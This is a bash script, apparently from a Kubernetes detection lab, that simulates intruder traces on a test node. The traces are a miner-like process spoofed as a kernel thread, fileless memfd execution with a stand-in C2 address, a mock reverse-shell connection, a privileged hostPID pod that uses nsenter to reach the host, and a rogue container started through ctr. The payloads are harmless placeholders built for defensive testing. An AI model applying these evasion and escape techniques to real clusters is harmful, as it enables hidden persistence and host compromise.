#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# What an intruder leaves on the node of scenario.yaml.
set -e; . "$(dirname "$0")/env.sh"; cd "$LAB"
API=$($K -n shop get pod -l app=api -o name | head -1)
# 1. deleted executable, comm spoofed as a kernel thread, miner-like command line
$K -n shop exec $API -- sh -c 'mkdir -p /tmp/.x && cp /usr/bin/python3 /tmp/.x/kworkerds && cd /tmp/.x && (setsid ./kworkerds -c "import time; pool=\"stratum+tcp://pool.minexmr.example:4444\"; wallet=\"4\"+\"8\"*94; b=bytearray(b\"XMRIG-\"+b\"A\"*3000000); time.sleep(1e6)" -o stratum+tcp://pool.minexmr.example:4444 >/dev/null 2>&1 &) ; sleep 2; rm -rf /tmp/.x'
# 2. payload executed from a memfd
$K -n shop exec $API -- sh -c '(setsid python3 -c "
import os
f=os.memfd_create(\"kthreadd\",1)
os.write(f,open(\"/usr/bin/sleep\",\"rb\").read())
os.execve(\"/proc/self/fd/%d\"%f,[\"[kworker/u4:2]\",\"1000000\"],{\"HISTFILE\":\"/dev/null\",\"C2\":\"198.51.100.77:443\"})" >/dev/null 2>&1 &); sleep 2'
# 3. a connection from the api pod to the listener of the ledger pod
LIP=$($K -n payments get pod ledger -o jsonpath='{.status.podIP}')
$K -n shop exec $API -- sh -c "(setsid python3 -c \"
import socket,time
s=socket.socket(); s.connect((\\\"$LIP\\\",7000)); s.send(b\\\"REVSHELL uid=0 id=host7731\\\\n\\\"); time.sleep(1e6)\" >/dev/null 2>&1 &); sleep 2"
# 4. a live exec session: its standard input stays open until 7-down.sh
[ -p run/fifo ] || mkfifo run/fifo
nohup sleep 100000 > run/fifo 2>/dev/null & echo $! > run/fifo.pid
nohup $K -n shop exec -i $API -- sh -c 'export STAGE=2; cat >/dev/null' < run/fifo > /dev/null 2>&1 & echo $! > run/exec.pid
# 5. a privileged pod that steps onto the host
cat <<X | $K apply -f -
apiVersion: v1
kind: Pod
metadata: {name: toolbox, namespace: shop, labels: {run: toolbox}}
spec:
  hostPID: true
  containers:
  - {name: toolbox, image: "docker.io/library/busybox:1.35", imagePullPolicy: Never, command: [sleep, "1000000"], securityContext: {privileged: true}}
X
$K -n shop wait --for=condition=Ready pod/toolbox --timeout="${WAIT:-300}s"
$K -n shop exec toolbox -- /bin/busybox nsenter -t 1 -m -u -i -n -p -- /bin/sh -c '(setsid /bin/sh -c "while true; do sleep 3600; done" hostescape >/dev/null 2>&1 &) ; sleep 1'
# 6. a container that neither kubelet nor API server knows
nssh 'ctr -n k8s.io run -d --null-io --runc-systemd-cgroup --cgroup system.slice:runc:helper docker.io/library/busybox:1.35 $(echo rogue | sha256sum | cut -c1-64) /bin/sh -c "while true; do sleep 1000; done"'
# the exec session's shell has started its cat
for _ in $(seq 60); do nssh 'pgrep -x cat' >/dev/null && exit 0; sleep 2; done
echo "the exec session did not start" >&2; exit 1
